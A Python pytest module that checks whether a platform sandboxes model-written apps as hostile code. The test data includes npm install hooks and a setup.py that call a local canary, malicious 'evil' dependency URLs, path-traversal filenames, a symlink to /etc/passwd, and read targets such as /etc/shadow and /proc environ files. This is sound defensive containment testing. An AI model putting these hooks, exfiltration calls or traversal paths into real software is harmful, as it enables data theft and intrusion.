"""What a model writes is hostile: it cannot leave its folder, run while it is installed, reach the network while it is built, or see a key.

Each attack goes the whole way: a scripted model writes it, the real engine installs, builds, tries and runs it. What came of it is seen in
what the app itself found, and outside: in a canary, in the files of Nexus and among the processes of the machine. Where this machine can
make no walls at all, code of a model is not run, and the thread says so.
"""

from __future__ import annotations

import json
import os
import secrets
from collections.abc import AsyncIterator, Mapping
from pathlib import Path

import pytest

from core.frameworks import registry as frameworks
from core.words.plan import FrameworkName
from tests.support import hostile_apps
from tests.support.hostile_apps import Canary, Targets, canary, processes_with
from tests.support.model_server import KEY, planning, writing
from tests.support.nexus import Nexus, new_nexus, until
from tests.support.writing_apps import EXPRESS, FASTAPI, FILES, ROUTERS, SCHEMA, TABLE, plan_of
from tests.support.writing_house import House, Scene, Told, faults_of, shown, theatre, writing_house

ROOT = Path(__file__).resolve().parents[2]
OUTSIDE = ("../outside.txt", "public/../../outside.txt", "/tmp/outside.txt", "~/outside.txt", "public/\u202egpj.js", "CON", "public/a -> b",
           "node_modules/express/index.js", ".git/hooks/post-checkout", ".github/workflows/ci.yml", ".venv/bin/python")  # fmt: skip
#: how the system says no, to Python and to Node.js
NOT_HAD = {f"!{name}" for name in ("FileNotFoundError", "PermissionError", "NotADirectoryError", "ConnectionRefusedError", "OSError",
           "ENOENT", "EACCES", "EROFS", "EPERM", "ENOTDIR", "ECONNREFUSED", "EFBIG", "fetch failed")}  # fmt: skip


@pytest.fixture(scope="module")
async def attacked(warm: Nexus) -> AsyncIterator[House]:
    """A Nexus that runs no code of a model without walls, with a browser where there is one."""
    async with theatre() as stage:
        nexus = new_nexus(like=warm, **stage.environment, NEXUS_ALLOW_UNCONFINED="false", NEXUS_MODEL_FALLBACK="false")
        try:
            async with writing_house(await nexus.up(), stage) as made:
                yield made
            await nexus.down()
            assert (faults := faults_of(nexus)) == [], json.dumps(faults, indent=1)
        finally:
            await nexus.close()


@pytest.fixture
async def bird() -> AsyncIterator[Canary]:
    async with canary() as made:
        yield made


def targets(house: House, bird: Canary, mark: str) -> Targets:
    """Everything that an app has no business with."""
    folder = house.nexus.folder
    process = house.nexus.process
    assert process is not None
    root, run = folder.root, folder.runtime
    built = (path for path in (root / "artifacts").rglob("server.js") if "node_modules" not in path.parts)
    another = next(built, root / "artifacts")
    read = [
        *(str(root / name) for name in ("secret.key", "logs/nexus.log", "instances", "postgres", "snapshots")),
        *(f"/proc/{pid}/environ" for pid in (process.pid, os.getpid())),
        "/etc/shadow",
        str(another),
    ]
    sockets = [str(path) for path in run.rglob("*") if path.is_socket() and path.parent.name != "pg"]
    assert all(map(os.path.exists, read)), read
    assert any("nexus" in path for path in sockets), sockets
    return Targets(
        read=read,
        write=[
            str(root / f"{mark}.txt"),
            str(root / "cache" / "uv" / f"{mark}.txt"),
            str(root / "cache" / "pnpm" / f"{mark}.txt"),
            str(ROOT / "core" / "frameworks" / "launchers" / f"{mark}.py"),
            f"/usr/{mark}.txt",
            f"/etc/{mark}.txt",
            ".venv/pyvenv.cfg",
            "node_modules/express/package.json",
        ],
        sockets=sockets,
        port=bird.port,
        abstract=bird.name,
        mark=mark,
    )


def runs(told: Told, house: House) -> bool:
    """Whether the app runs; it does wherever it can be walled in."""
    if "the same user as Nexus" in house.nexus.said:
        assert "NEXUS_ALLOW_UNCONFINED" in told.reason
        return False
    assert told.ready, shown(told)
    return True


def walled_in(told: Told) -> bool:
    """Whether it has a network of its own."""
    return "namespaces" == next(fact["isolation"] for fact in told.facts if fact["kind"] == "build.ready")


def nothing_was_had(loot: Mapping[str, str], house: House, told: Told) -> None:
    """All attempts failed. Only walls with a network of their own keep an app from the loopback, and only those are said to."""
    alone = walled_in(told)
    reached = {"connect", "fetch", "abstract"}
    tried = {name: said for name, said in loot.items() if name not in {"env", "forks", "leave", "tell"}}
    had = {name: said for name, said in tried.items() if not said.startswith("!") and (alone or name not in reached)}
    assert {} == had
    assert {said for said in tried.values() if said.startswith("!")} <= NOT_HAD, "it was the walls"
    environment = json.loads(loot["env"])
    assert KEY not in str(loot)
    assert not [name for name in environment if name.startswith(("OPENAI", "ANTHROPIC", "COMPATIBLE", "POSTGRES"))]
    assert {name for name in environment if name.startswith("NEXUS_")} <= {"NEXUS_SOCKET", "NEXUS_BUILD_KEY"}
    assert house.nexus.folder.secret("tokens").hex() not in str(loot)


async def nothing_is_left(mark: str, house: House) -> None:
    """No process with the mark, and no file of that name."""

    async def gone() -> bool:
        return not processes_with(mark)

    await until(gone, what="what was left behind is gone")
    places = [house.nexus.data, house.nexus.folder.root, ROOT / "core", Path("/usr"), Path("/etc"), Path("/tmp")]
    assert not [path for place in places for path in place.glob(f"{mark}*")]


def at_install(framework: FrameworkName, bird: Canary) -> tuple[dict[str, str], list[str], dict[str, str]]:
    """What would run or be fetched while packages are installed: files, packages of the plan, and what the thread says of some."""
    there = f"http://127.0.0.1:{bird.port}"
    if framework == "express":
        runs = dict.fromkeys(("preinstall", "install", "postinstall", "prepare"), f"node -e \"fetch('{there}')\"")
        wanted = {"express": "5.3.0", "pg": "8.23.1", "evil": f"git+{there}/evil.git"}
        package = {"name": "app", "type": "module", "main": "server.js", "scripts": runs, "dependencies": wanted}
        files = {
            "package.json": json.dumps(package),
            ".npmrc": f"registry={there}\nignore-scripts=false\n",
            ".pnpmfile.cjs": f"fetch('{there}');\n",
            "pnpm-workspace.yaml": "onlyBuiltDependencies: [pg]\n",
        }
        said = {
            "package.json": "The model wrote package.json, which was ignored. The dependency 'evil' is not accepted",
            ".npmrc": "'.npmrc' belongs to the tools",
            ".pnpmfile.cjs": "'.pnpmfile.cjs' belongs to the tools",
            "pnpm-workspace.yaml": "The model wrote pnpm-workspace.yaml, which belongs to the platform; it was ignored.",
        }
    else:
        files = {
            "requirements.txt": f"fastapi\nevil @ {there}/evil-1.0-py3-none-any.whl\n",
            "pip.conf": f"[global]\nindex-url = {there}\n",
            "uv.toml": f'index-url = "{there}"\n',
            "setup.py": f"import urllib.request\nurllib.request.urlopen('{there}')\n",
        }
        said = {
            "requirements.txt": "The model wrote requirements.txt, which was ignored.",
            "pip.conf": "'pip.conf' belongs to the tools",
            "uv.toml": "'uv.toml' belongs to the tools",
            "setup.py": "The model wrote setup.py, which belongs to the platform; it was ignored.",
        }
    return files, [f"{there}/evil.tgz", f"git+{there}/evil.git", "file:../../evil", "evil@npm:other"], said


@pytest.mark.parametrize("framework", ["express", "fastapi"])
async def test_nothing_that_a_model_writes_is_run_or_fetched_at_install(
    attacked: House, bird: Canary, framework: FrameworkName
) -> None:
    files, packages, said = at_install(framework, bird)
    app = FILES[framework]
    scene = attacked.theatre.add(Scene(f"installing-{framework}"))
    plan = scene.marked(plan_of(framework, app, dependencies=packages))
    scene.play([planning(plan)], [writing({**app, **files})])
    told = await attacked.ask(scene, "notes", framework)
    for path, words in said.items():
        assert words in told.notes, path
    for package in packages:
        assert package in told.notes
        assert "addresses and files are not installed" in told.notes
    if runs(told, attacked):
        scaffold = frameworks.framework(framework).scaffold()
        assert {path: scaffold.get(path) for path in files} == {path: told.files.get(path) for path in files}
    assert [] == bird.heard


async def test_no_file_of_a_model_leaves_its_folder(attacked: House) -> None:
    scene = attacked.theatre.add(Scene("leaving"))
    scene.play([planning(scene.marked(plan_of("express")))], [writing({**dict.fromkeys(OUTSIDE, "owned\n"), **EXPRESS})])
    await attacked.begin(scene, "notes")
    await attacked.fact(scene.slug, "build.step", step={"name": "write", "state": "done"})
    await attacked.user.press("cancel", (await attacked.facts(scene.slug, "build.requested"))[0]["build"])
    told = await attacked.told(scene)
    assert len(OUTSIDE) == told.notes.count("A file was ignored."), told.notes
    assert not set(OUTSIDE) & set(told.files)
    assert not list(attacked.nexus.base.rglob("outside.txt"))
    assert not Path("/tmp/outside.txt").exists()


async def test_a_link_that_a_build_makes_ends_it_with_the_reason(attacked: House) -> None:
    link = 'import os\n\nif not os.path.lexists("static/passwd"):\n    os.symlink("/etc/passwd", "static/passwd")\n'
    files = {**FASTAPI, "app/resources/__init__.py": ROUTERS.replace("from app.crud", f"{link}\nfrom app.crud", 1)}
    scene = attacked.theatre.add(Scene("linking"))
    scene.play([planning(scene.marked(plan_of("fastapi")))], [writing(files)])
    told = await attacked.ask(scene, "notes", "fastapi")
    assert "failed" == told.end
    if "the same user as Nexus" not in attacked.nexus.said:
        assert "'static/passwd' cannot be part of an app" in told.reason
        assert "Reply with what should be different, or try again." in told.reason
    assert "root:" not in told.text


async def test_a_page_that_calls_home_is_heard_by_nobody(attacked: House, bird: Canary) -> None:
    files = {**EXPRESS, "public/index.html": hostile_apps.page(bird.port)}
    scene = attacked.theatre.add(Scene("calling-home"))
    scene.play([planning(scene.marked(plan_of("express", files)))], [writing(files)])
    told = await attacked.ask(scene, "notes")
    assert [] == bird.heard
    if "with 1 error" in told.reason:  # a browser has opened it
        assert told.reason.startswith("The page / opens with 1 error: WebSocket")
        assert "Reply with what should be different, or try again." in told.reason
    elif runs(told, attacked):
        assert "browser" in [step["name"] for fact in told.facts if fact["kind"] == "build.ready" for step in fact["evidence"]]


@pytest.mark.parametrize("framework", ["fastapi", "react"])
async def test_an_app_that_tries_everything_gets_nothing(attacked: House, bird: Canary, framework: FrameworkName) -> None:
    mark = f"left{secrets.token_hex(6)}"
    aims = targets(attacked, bird, mark)
    if framework == "fastapi":
        files = {**FASTAPI, **hostile_apps.fastapi(aims)}
    else:
        files = {"migrations/0001_init.sql": TABLE, "src/schema.json": SCHEMA, **hostile_apps.react(aims)}
    scene = attacked.theatre.add(Scene(f"hostile-{framework}"))
    scene.play([planning(scene.marked(plan_of(framework, files)))], [writing(files)])
    told = await attacked.ask(scene, "notes", framework)
    if not runs(told, attacked):
        return
    await nothing_is_left(mark, attacked)
    live = await attacked.approve(scene, told)
    assert "deployment.live" == live["kind"], live
    at_build = (await attacked.nexus.app(scene.slug, "GET", "/loot.json")).ok()
    at_run = (await attacked.nexus.app(scene.slug, "GET", "/api/loot")).ok()
    for loot in (at_build, at_run):
        nothing_was_had(loot, attacked, told)
    assert 0 < int(at_build.get("forks", 1)) < 600
    if walled_in(told):
        assert [] == bird.heard
    (await attacked.nexus.app(scene.slug, "POST", "/api/notes", {"title": "It works without"})).ok(201)
    await attacked.user.press("stop", scene.slug)
    await nothing_is_left(mark, attacked)
    assert KEY not in told.text + str(told.facts)
